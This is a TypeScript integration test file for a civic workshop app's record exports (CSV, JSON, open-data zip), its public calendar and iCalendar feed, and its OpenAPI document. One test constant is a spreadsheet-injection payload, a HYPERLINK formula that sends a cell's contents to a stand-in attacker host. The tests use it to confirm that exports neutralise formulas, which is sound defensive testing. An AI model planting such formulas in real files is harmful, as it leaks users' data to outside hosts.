import { randomUUID } from 'node:crypto';
import { unzipSync, strFromU8 } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TABLECLOTH_TEXT, tableclothDocName } from '../../shared/domain/cafe.ts';
import {
  OutcomeSchema,
  type EngagementRecord,
  type Outcome,
  type SnapshotSummary,
} from '../../shared/domain/records.ts';
import {
  RecordExportSchema,
  openDataFiles,
  recordCsvColumns,
  type RecordExport,
} from '../../server/features/records/exports.ts';
import { CalendarSchema, type CalendarEvent } from '../../shared/protocol/records.ts';
import { backends, startApp, type TestApp } from '../helpers/app.ts';
import {
  HttpClient,
  connect,
  createOpenWorkshop,
  join,
  setUpFacilitator,
  ok,
} from '../helpers/clients.ts';
import { eventually } from '../helpers/eventually.ts';
import { openYjsPeer } from '../helpers/yjs.ts';

/** A strict RFC 4180 reader: quoted fields, doubled quotes, CRLF records; a BOM is skipped. */
function parseCsv(text: string): string[][] {
  const s = text.startsWith('\uFEFF') ? text.slice(1) : text;
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  let i = 0;
  while (i < s.length) {
    const ch = s[i]!;
    if (quoted) {
      if (ch === '"' && s[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (ch === '"') {
        quoted = false;
        i += 1;
      } else {
        field += ch;
        i += 1;
      }
    } else if (ch === '"') {
      if (field !== '') throw new Error(`Quote inside an unquoted field at ${i}`);
      quoted = true;
      i += 1;
    } else if (ch === ',') {
      row.push(field);
      field = '';
      i += 1;
    } else if (ch === '\r' && s[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 2;
    } else if (ch === '\n' || ch === '\r') {
      throw new Error(`Bare line break at ${i}`);
    } else {
      field += ch;
      i += 1;
    }
  }
  if (quoted) throw new Error('Unterminated quoted field');
  if (field !== '' || row.length) throw new Error('The last record does not end with CRLF');
  return rows;
}

/** Rows as objects by header; every row as wide as the header. */
function csvObjects(text: string) {
  const [header, ...rows] = parseCsv(text);
  for (const r of rows) expect(r).toHaveLength(header!.length);
  return {
    header: header!,
    rows: rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!]))),
  };
}

/** No cell a spreadsheet would run as a formula. */
function expectNoFormulas(text: string) {
  for (const row of parseCsv(text)) {
    for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  }
}

type IcsProp = { name: string; params: string; value: string };

/** Checks RFC 5545 line rules on the raw feed, then unfolds it into events of properties. */
function parseIcs(raw: string) {
  expect(raw.endsWith('\r\n')).toBe(true);
  expect(raw.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
  const physical = raw.slice(0, -2).split('\r\n');
  for (const l of physical) expect(Buffer.byteLength(l, 'utf8')).toBeLessThanOrEqual(75);
  const logical: string[] = [];
  for (const l of physical) {
    if (l.startsWith(' ')) logical[logical.length - 1] += l.slice(1);
    else logical.push(l);
  }
  const props: IcsProp[] = logical.map((l) => {
    const m = /^([A-Z-]+)((?:;[^:]*)?):(.*)$/.exec(l);
    if (!m) throw new Error(`Not a content line: ${l}`);
    return { name: m[1]!, params: m[2]!, value: m[3]! };
  });
  expect(props[0]).toMatchObject({ name: 'BEGIN', value: 'VCALENDAR' });
  expect(props.at(-1)).toMatchObject({ name: 'END', value: 'VCALENDAR' });
  const events: Map<string, IcsProp>[] = [];
  let current: Map<string, IcsProp> | undefined;
  for (const p of props) {
    if (p.name === 'BEGIN' && p.value === 'VEVENT') current = new Map();
    else if (p.name === 'END' && p.value === 'VEVENT') {
      events.push(current!);
      current = undefined;
    } else if (current) current.set(p.name, p);
  }
  return { props, events };
}

const unescapeText = (s: string) =>
  s.replace(/\\([\\;,nN])/g, (_m, c: string) => (c === 'n' || c === 'N' ? '\n' : c));

const FORMULA_NOTE = '=HYPERLINK("http://evil.example/?x="&A1,"Click for the survey")';

describe.each(backends)('record exports, calendar and API document on %s', (backend) => {
  let t: TestApp;
  let http: HttpClient;
  const cleanups: (() => void)[] = [];
  let record: EngagementRecord;
  let workshopId: string;
  let outcome: Outcome;
  const ids = { kept: '', hidden: '', formula: '', at: '' };
  let libraries: EngagementRecord;
  let undated: EngagementRecord;

  beforeAll(async () => {
    t = await startApp(backend);
    http = await setUpFacilitator(t.url);

    const { workshop, code, fac } = await createOpenWorkshop(http, {
      title: 'Youth strategy night',
      purpose: 'Decide what the youth strategy funds first.',
      startsAt: '2026-12-01T18:30',
      agenda: [
        { kind: 'idea_board', title: 'Ideas', prompt: 'What should young people have?' },
        {
          kind: 'dot_vote',
          title: 'Priorities',
          settings: { options: ['Parks', 'Clubs', 'Buses'] },
        },
        {
          kind: 'world_cafe',
          title: 'Café',
          settings: { tables: 1, rounds: 1, changeoverMinutes: 0 },
        },
      ],
    });
    workshopId = workshop.id;
    cleanups.push(() => fac.close());
    const [board, dot, cafe] = workshop.agenda.map((a) => ({ id: a.id })) as [
      { id: string },
      { id: string },
      { id: string },
    ];
    const phones = [];
    for (const groupKey of ['resident', 'resident', 'officer']) {
      const joined = await join(t.url, code, { groupKey });
      const socket = await connect(t.url, { role: 'participant', token: joined.body.token });
      cleanups.push(() => socket.close());
      phones.push({ socket, token: joined.body.token });
    }
    const [a, b, c] = phones as [(typeof phones)[0], (typeof phones)[0], (typeof phones)[0]];

    ok(await fac.command('activity:goto', { activityId: board.id }));
    ids.kept = randomUUID();
    ids.hidden = randomUUID();
    ids.formula = randomUUID();
    ids.at = randomUUID();
    const add = (p: typeof a, id: string, text: string) =>
      p.socket.command('note:add', { id, activityId: board.id, text });
    ok(await add(a, ids.kept, 'A skate park by the river, with lights'));
    ok(await add(b, ids.hidden, 'Something rude about a named officer'));
    ok(await add(c, ids.formula, FORMULA_NOTE));
    ok(await add(a, ids.at, '@council "youth clubs" open later'));
    const theme = ok(await fac.command('theme:create', { activityId: board.id, name: 'Places' }));
    ok(await fac.command('note:place', { id: ids.kept, themeId: theme.id }));
    ok(await fac.command('note:hide', { id: ids.hidden, reason: 'names someone' }));

    ok(await fac.command('activity:goto', { activityId: dot.id }));
    const vote = ok(await fac.command('vote:get', { activityId: dot.id }));
    const optionId = (label: string) => vote.options.find((o) => o.label === label)!.id;
    ok(await fac.command('vote:open', { activityId: dot.id, closesAt: null }));
    for (const [p, label] of [
      [a, 'Parks'],
      [c, 'Parks'],
      [b, 'Clubs'],
    ] as const) {
      ok(
        await p.socket.command('dot:place', {
          opId: randomUUID(),
          activityId: dot.id,
          optionId: optionId(label),
        }),
      );
    }
    ok(await fac.command('vote:close', { activityId: dot.id }));
    // Results shown on the projector: now they may be public (SEC6).
    ok(await fac.command('vote:reveal', { activityId: dot.id }));

    ok(await fac.command('activity:goto', { activityId: cafe.id }));
    const started = ok(await fac.command('cafe:start', { activityId: cafe.id }));
    const tableId = started.state.tables[0]!.id;
    const peer = await openYjsPeer(t.url, tableclothDocName(tableId, 1), { token: a.token });
    cleanups.push(() => peer.close());
    peer.doc.getText(TABLECLOTH_TEXT).insert(0, '+44 buses an hour, "safer" routes\nand lights');
    await eventually(
      async () => {
        const cloth = ok(await fac.command('cafe:tablecloths', { activityId: cafe.id, tableId }));
        expect(cloth.tablecloths[0]?.text).toContain('and lights');
      },
      { intervalMs: 100 },
    );
    ok(await fac.command('cafe:advance', { activityId: cafe.id }));
    ok(
      await fac.command('cafe:insight:add', {
        id: randomUUID(),
        activityId: cafe.id,
        text: '-Safe routes matter most',
        sourceTableIds: [tableId],
      }),
    );
    ok(await fac.command('workshop:close', {}));

    // The lead's RecordService saves the outcome at close, after the close has answered.
    const auto = await eventually(
      async () => {
        const list = await http.get<{ records: EngagementRecord[] }>('/api/records');
        const rec = list.body.records.find((r) => r.workshops.some((w) => w.id === workshopId));
        expect(rec?.workshops.find((w) => w.id === workshopId)?.latestVersion).toBe(1);
        return rec!;
      },
      { intervalMs: 100, timeoutMs: 15_000 },
    );
    const patched = await http.patch<EngagementRecord>(`/api/records/${auto.id}`, {
      service: 'Youth Service',
      area: 'Spitalfields and Banglatown',
      tags: ['youth', 'parks'],
      level: 'decide_together',
      startsOn: '2026-12-01',
      endsOn: '2026-12-03',
      location: 'Idea Store Whitechapel, 321 Whitechapel Road; Room 2',
      summary:
        'Young people, parents and youth workers decided what the youth strategy funds first. ' +
        'যুবকদের জন্য কী দরকার, সেটা আমরা একসাথে ঠিক করেছি।\nEveryone was welcome.',
      canInfluence: 'Which three priorities come first',
    });
    expect(patched.status).toBe(200);
    record = patched.body;
    const snap = await http.get<SnapshotSummary & { outcome: Outcome }>(
      `/api/records/${record.id}/workshops/${workshopId}/snapshots/latest`,
    );
    outcome = OutcomeSchema.parse(snap.body.outcome);

    const lib = await http.post<EngagementRecord>('/api/records', {
      title: 'Library opening hours',
      service: 'Libraries',
      tags: ['libraries'],
      level: 'consult',
      startsOn: '2027-02-10',
      location: 'Online',
    });
    expect(lib.status).toBe(201);
    libraries = lib.body;
    const und = await http.post<EngagementRecord>('/api/records', {
      title: 'An idea with no date yet',
      service: 'Libraries',
      level: 'inform',
    });
    undated = und.body;
  }, 90_000);

  afterAll(async () => {
    for (const c of cleanups.reverse()) c();
    await t.close();
  });

  it('[REC5] the CSV export parses back, matches the public snapshot, and no cell runs as a formula', async () => {
    const res = await fetch(`${t.url}/api/records/${record.id}/export.csv`, {
      headers: { cookie: http.cookie },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    expect(res.headers.get('content-disposition')).toBe(
      'attachment; filename="record-youth-strategy-night.csv"',
    );
    const bytes = new Uint8Array(await res.arrayBuffer());
    // A byte order mark, so that spreadsheets read the text as UTF-8.
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
    expectNoFormulas(text);
    const { header, rows } = csvObjects(text);
    expect(header).toEqual([...recordCsvColumns]);

    const board = outcome.activities.find((x) => x.kind === 'idea_board')!;
    if (board.kind !== 'idea_board') throw new Error('board');
    const notes = rows.filter((r) => r.item_type === 'note');
    expect(notes.map((r) => r.item_id).sort()).toEqual(board.notes.map((n) => n.id).sort());
    expect(notes.map((r) => r.item_id)).not.toContain(ids.hidden);
    expect(text).not.toContain('Something rude');
    expect(notes.find((r) => r.item_id === ids.kept)).toMatchObject({
      text: 'A skate park by the river, with lights',
      theme: 'Places',
      workshop_id: workshopId,
      snapshot_version: '1',
      activity_kind: 'idea_board',
    });
    expect(notes.find((r) => r.item_id === ids.formula)!.text).toBe(`'${FORMULA_NOTE}`);
    expect(notes.find((r) => r.item_id === ids.at)!.text).toBe(
      `'@council "youth clubs" open later`,
    );

    const dot = outcome.activities.find((x) => x.kind === 'dot_vote')!;
    if (dot.kind !== 'dot_vote') throw new Error('dot');
    const options = rows.filter((r) => r.item_type === 'vote_option');
    expect(
      options.map((r) => ({ id: r.item_id, label: r.text, score: r.score, rank: r.rank })),
    ).toEqual(
      dot.rows.map((r) => ({
        id: r.optionId,
        label: r.label,
        score: String(r.score),
        rank: String(r.rank),
      })),
    );
    expect(rows.find((r) => r.item_type === 'vote')).toMatchObject({
      text: dot.method,
      count: String(dot.voters),
    });
    const parksByGroup = rows.filter(
      (r) => r.item_type === 'vote_option_group' && r.text === 'Parks',
    );
    expect(parksByGroup.map((r) => [r.group, r.score]).sort()).toEqual([
      ['officer', '1'],
      ['resident', '1'],
    ]);

    const cafe = outcome.activities.find((x) => x.kind === 'world_cafe')!;
    if (cafe.kind !== 'world_cafe') throw new Error('cafe');
    expect(rows.filter((r) => r.item_type === 'tablecloth')).toEqual([
      expect.objectContaining({
        text: `'${cafe.rounds[0]!.tablecloths[0]!.text}`,
        round: '1',
        count: String(cafe.rounds[0]!.seated),
      }),
    ]);
    expect(rows.find((r) => r.item_type === 'insight')!.text).toBe("'-Safe routes matter most");
    expect(rows.filter((r) => r.item_type === 'timeline').map((r) => r.text)).toEqual(
      outcome.timeline.map((e) => e.event),
    );
    expect(
      rows
        .filter((r) => r.item_type === 'participation' && r.activity_id === '')
        .reduce((s, r) => s + Number(r.count), 0),
    ).toBe(outcome.participation.joined);
  });

  it('[REC5] the JSON export validates against its schema and OutcomeSchema, without hidden notes', async () => {
    const res = await http.get<RecordExport>(`/api/records/${record.id}/export.json`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^application\/json/);
    const e = RecordExportSchema.parse(res.body);
    expect(e.view).toBe('public');
    expect(e.record).toMatchObject({ id: record.id, title: 'Youth strategy night' });
    expect(e.feedbackPath).toBe(`/feedback/${record.publicId}`);
    expect(e.outcomes).toHaveLength(1);
    expect(e.outcomes[0]).toMatchObject({ workshopId, version: 1 });
    expect(OutcomeSchema.parse(e.outcomes[0]!.outcome)).toEqual(outcome);
    expect(JSON.stringify(e)).not.toContain(ids.hidden);
    expect(JSON.stringify(e)).not.toContain('names someone');
  });

  it('[REC5] the open-data zip holds every CSV and a README with the licence and counting methods', async () => {
    const res = await fetch(`${t.url}/api/records/${record.id}/open-data.zip`, {
      headers: { cookie: http.cookie },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/zip');
    const files = unzipSync(new Uint8Array(await res.arrayBuffer()));
    expect(Object.keys(files).sort()).toEqual([...openDataFiles].sort());
    const text = (name: string) => strFromU8(files[name]!);

    for (const name of openDataFiles.filter((n) => n.endsWith('.csv'))) {
      expect([...files[name]!.slice(0, 3)], name).toEqual([0xef, 0xbb, 0xbf]);
      expectNoFormulas(text(name));
      expect(parseCsv(text(name)).length).toBeGreaterThanOrEqual(1);
    }
    const readme = text('README.txt');
    expect(readme).toContain('Open Government Licence v3.0');
    for (const name of openDataFiles.filter((n) => n.endsWith('.csv'))) {
      expect(readme).toContain(`\r\n${name}\r\n`);
    }
    const dot = outcome.activities.find((x) => x.kind === 'dot_vote')!;
    if (dot.kind !== 'dot_vote') throw new Error('dot');
    expect(readme).toContain(`- Priorities (Youth strategy night): ${dot.method}`);
    expect(readme).toMatch(/Counting methods/);

    expect(csvObjects(text('records.csv')).rows).toEqual([
      expect.objectContaining({
        record_id: record.publicId,
        service: 'Youth Service',
        tags: 'youth; parks',
        level_label: 'Deciding together',
        feedback_url: `${t.url}/feedback/${record.publicId}`,
      }),
    ]);
    expect(text('records.csv')).not.toContain(record.id);
    expect(csvObjects(text('workshops.csv')).rows).toEqual([
      expect.objectContaining({ workshop_id: workshopId, snapshot_version: '1', joined: '3' }),
    ]);

    const notes = csvObjects(text('notes.csv'));
    expect(notes.rows.map((r) => r.note_id).sort()).toEqual([ids.kept, ids.formula, ids.at].sort());
    expect(notes.header).not.toContain('shown_name');
    expect(notes.rows.find((r) => r.note_id === ids.formula)!.text).toBe(`'${FORMULA_NOTE}`);
    expect(csvObjects(text('themes.csv')).rows).toEqual([
      expect.objectContaining({ name: 'Places', notes: '1' }),
    ]);

    const votes = csvObjects(text('vote_results.csv'));
    expect(votes.header).toEqual(
      expect.arrayContaining([
        'resident_digital',
        'resident_paper',
        'resident_voters',
        'officer_digital',
      ]),
    );
    expect(votes.rows.find((r) => r.option === 'Parks')).toMatchObject({
      rank: '1',
      score: '2',
      resident_digital: '1',
      officer_digital: '1',
      resident_voters: '2',
      method: dot.method,
    });
    expect(votes.rows.find((r) => r.option === 'Clubs')).toMatchObject({ resident_digital: '1' });

    expect(csvObjects(text('commitments.csv')).header).toContain('by_when');
    expect(csvObjects(text('cafe_tablecloths.csv')).rows).toEqual([
      expect.objectContaining({ round: '1', table_number: '1', seated_in_round: '3' }),
    ]);
    expect(csvObjects(text('cafe_insights.csv')).rows).toEqual([
      expect.objectContaining({ text: "'-Safe routes matter most", source_tables: 'Table 1' }),
    ]);
    const participation = csvObjects(text('participation.csv')).rows;
    expect(
      participation
        .filter((r) => r.scope === 'joined the workshop')
        .map((r) => [r.group_key, r.count])
        .sort(),
    ).toEqual([
      ['officer', '1'],
      ['resident', '2'],
    ]);
  });

  it('[REC5] exports are for signed-in facilitators, of records that exist', async () => {
    const anon = new HttpClient(t.url);
    for (const path of ['export.csv', 'export.json', 'open-data.zip']) {
      expect((await anon.get(`/api/records/${record.id}/${path}`)).status).toBe(401);
      expect((await http.get(`/api/records/${randomUUID()}/${path}`)).status).toBe(404);
    }
  });

  it('[REC6] the calendar is public, shows dated activities earliest first with public fields only, and filters', async () => {
    const anon = new HttpClient(t.url);
    const all = await anon.get<{ events: CalendarEvent[] }>('/api/calendar');
    expect(all.status).toBe(200);
    const events = CalendarSchema.parse(all.body).events;
    expect(events.map((e) => e.title)).toEqual(['Youth strategy night', 'Library opening hours']);
    expect(events.map((e) => e.publicId)).not.toContain(undated.publicId);
    expect(Object.keys(events[0]!).sort()).toEqual(
      [
        'publicId',
        'title',
        'service',
        'area',
        'tags',
        'level',
        'levelLabel',
        'status',
        'startsOn',
        'endsOn',
        'location',
        'summary',
        'feedbackPath',
      ].sort(),
    );
    expect(JSON.stringify(all.body)).not.toContain(record.id);
    expect(JSON.stringify(all.body)).not.toContain('Which three priorities');
    expect(events[0]).toMatchObject({
      startsOn: '2026-12-01',
      endsOn: '2026-12-03',
      feedbackPath: `/feedback/${record.publicId}`,
    });

    const titles = async (query: string) =>
      (await anon.get<{ events: CalendarEvent[] }>(`/api/calendar?${query}`)).body.events.map(
        (e) => e.title,
      );
    expect(await titles('service=Libraries')).toEqual(['Library opening hours']);
    expect(await titles('area=Spitalfields%20and%20Banglatown')).toEqual(['Youth strategy night']);
    expect(await titles('tag=parks')).toEqual(['Youth strategy night']);
    expect(await titles('level=consult')).toEqual(['Library opening hours']);
    expect(await titles('from=2027-01-01')).toEqual(['Library opening hours']);
    expect(await titles('to=2026-12-31')).toEqual(['Youth strategy night']);
    expect(await titles('from=2026-12-03&to=2026-12-03')).toEqual(['Youth strategy night']);
    expect((await anon.get('/api/calendar?level=everything')).status).toBe(400);
    expect((await anon.get('/api/calendar?from=tomorrow')).status).toBe(400);
  });

  it('[REC6] the iCalendar feed is public RFC 5545: CRLF, folded at 75 octets, escaped, one all-day VEVENT per dated record', async () => {
    const fetchFeed = async (query = '') => {
      const res = await fetch(`${t.url}/api/public/calendar.ics${query}`);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('text/calendar; charset=utf-8');
      return res.text();
    };
    const raw = await fetchFeed();
    const { props, events } = parseIcs(raw);
    expect(props.find((p) => p.name === 'VERSION')?.value).toBe('2.0');
    expect(props.find((p) => p.name === 'PRODID')).toBeDefined();
    expect(events).toHaveLength(2);
    // The Bengali summary makes the description long enough to fold, mid-way through script.
    expect(raw).toMatch(/\r\n /);

    const youth = events.find((e) => e.get('SUMMARY')?.value === 'Youth strategy night')!;
    expect(youth.get('UID')?.value).toBe(`record-${record.publicId}@roundtable`);
    expect(youth.get('DTSTAMP')?.value).toMatch(/^\d{8}T\d{6}Z$/);
    expect(youth.get('DTSTART')).toMatchObject({ params: ';VALUE=DATE', value: '20261201' });
    // All-day: the end is the day after the last day.
    expect(youth.get('DTEND')).toMatchObject({ params: ';VALUE=DATE', value: '20261204' });
    expect(youth.get('LOCATION')?.value).toBe(
      'Idea Store Whitechapel\\, 321 Whitechapel Road\\; Room 2',
    );
    expect(unescapeText(youth.get('LOCATION')!.value)).toBe(record.location);
    const description = unescapeText(youth.get('DESCRIPTION')!.value);
    expect(description).toContain(record.summary);
    expect(description).toContain('Service: Youth Service');
    expect(description).toContain('Level of engagement: Deciding together');
    expect(description).toContain(`${t.url}/feedback/${record.publicId}`);
    expect(youth.get('DESCRIPTION')!.value).not.toMatch(/[^\\]\n/);
    expect(youth.get('URL')?.value).toBe(`${t.url}/feedback/${record.publicId}`);

    const lib = events.find((e) => e.get('SUMMARY')?.value === 'Library opening hours')!;
    expect(lib.get('DTSTART')?.value).toBe('20270210');
    expect(lib.get('DTEND')?.value).toBe('20270211');
    expect(lib.get('UID')?.value).toBe(`record-${libraries.publicId}@roundtable`);

    // Only public fields: no record id, nothing about what can be influenced, no undated record.
    expect(raw).not.toContain(record.id);
    expect(raw).not.toContain('Which three priorities');
    expect(raw).not.toContain(undated.publicId);

    // UIDs are stable from one fetch to the next, so subscribers update rather than duplicate.
    const again = parseIcs(await fetchFeed()).events.map((e) => e.get('UID')?.value);
    expect(again.sort()).toEqual(events.map((e) => e.get('UID')?.value).sort());

    const filtered = parseIcs(await fetchFeed('?service=Libraries')).events;
    expect(filtered.map((e) => e.get('SUMMARY')?.value)).toEqual(['Library opening hours']);
    const byLevel = parseIcs(await fetchFeed('?level=decide_together&tag=youth')).events;
    expect(byLevel.map((e) => e.get('SUMMARY')?.value)).toEqual(['Youth strategy night']);
  });

  it('[REC15] the OpenAPI 3.1 document is served publicly and lists every records endpoint', async () => {
    const res = await new HttpClient(t.url).get<{
      openapi: string;
      paths: Record<string, Record<string, unknown>>;
      components: { schemas: Record<string, unknown> };
    }>('/api/openapi.json');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^application\/json/);
    const doc = res.body;
    expect(doc.openapi).toBe('3.1.0');
    const expected: [string, string][] = [
      ['get', '/api/records'],
      ['post', '/api/records'],
      ['get', '/api/records/{id}'],
      ['patch', '/api/records/{id}'],
      ['put', '/api/records/{id}/workshops/{workshopId}'],
      ['delete', '/api/records/{id}/workshops/{workshopId}'],
      ['get', '/api/records/{id}/workshops/{workshopId}/snapshots'],
      ['post', '/api/records/{id}/workshops/{workshopId}/snapshots'],
      ['get', '/api/records/{id}/workshops/{workshopId}/snapshots/{version}'],
      ['get', '/api/records/{id}/export.csv'],
      ['get', '/api/records/{id}/export.json'],
      ['get', '/api/records/{id}/open-data.zip'],
      ['get', '/api/calendar'],
      ['get', '/api/public/calendar.ics'],
      ['get', '/api/openapi.json'],
      ['get', '/api/records/{id}/responses'],
      ['put', '/api/records/{id}/responses/{itemId}'],
      ['post', '/api/records/{id}/feedback/publish'],
      ['get', '/api/public/feedback/{publicId}'],
      ['get', '/api/records/{id}/reach'],
      ['get', '/api/workshops/{id}/reach'],
      ['get', '/api/reference-profile'],
      ['put', '/api/reference-profile'],
      ['post', '/api/participant/about-you'],
      ['post', '/api/participant/feedback-contact'],
      ['get', '/api/public/feedback/{publicId}/qr.svg'],
      ['get', '/api/workshops/{id}/contributors'],
      ['delete', '/api/workshops/{id}/participants/{participantId}/contributions'],
      ['get', '/api/records/{id}/audit'],
    ];
    for (const [method, path] of expected) {
      expect(doc.paths[path]?.[method], `${method} ${path}`).toBeDefined();
    }
    // Every reference points at a schema the document defines.
    const refs = [...JSON.stringify(doc).matchAll(/"\$ref":"#\/components\/schemas\/([^"]+)"/g)];
    expect(refs.length).toBeGreaterThan(10);
    for (const [, name] of refs) expect(doc.components.schemas[name!], name).toBeDefined();
    const patch = doc.paths['/api/records/{id}']!.patch as {
      requestBody: { content: { 'application/json': { schema: { $ref: string } } } };
    };
    const patchSchema = doc.components.schemas[
      patch.requestBody.content['application/json'].schema.$ref.split('/').pop()!
    ] as { properties: Record<string, unknown> };
    expect(Object.keys(patchSchema.properties)).toEqual(
      expect.arrayContaining(['title', 'service', 'level', 'startsOn', 'endsOn']),
    );
  });
});
